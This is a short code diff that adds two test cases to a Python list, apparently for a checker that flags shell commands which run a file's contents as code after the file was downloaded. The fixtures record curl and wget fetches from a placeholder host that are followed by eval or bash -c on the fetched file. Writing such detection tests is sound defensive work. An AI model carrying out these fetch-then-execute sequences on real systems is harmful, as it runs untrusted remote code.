@@ -257,6 +257,18 @@ KEPT: list[tuple[str, str, str, str]] = [
         "text get 'echo 1'\ndid 'wget -O get https://x.example/g'\ndid 'chmod +x get'",
     ),
     (
+        "the text of a file is run as code, which was here, or was downloaded",
+        'eval "$(cat settings.sh)"',
+        "text settings.sh 'export A=1'",
+        "text settings.sh 'export A=1'\ndid 'curl -fsSLo settings.sh https://x.example/s'",
+    ),
+    (
+        "the text of a file is handed to a script, or run by the shell",
+        'bash -c "$(< settings.sh)"',
+        "text settings.sh 'export A=1'\ndid 'curl -fsSLo other.sh https://x.example/s'",
+        "text settings.sh 'export A=1'\ndid 'wget -qO settings.sh https://x.example/s'",
+    ),
+    (
         "a script that runs what the network says",
         "bash up.sh",
         "text up.sh 'echo up'",
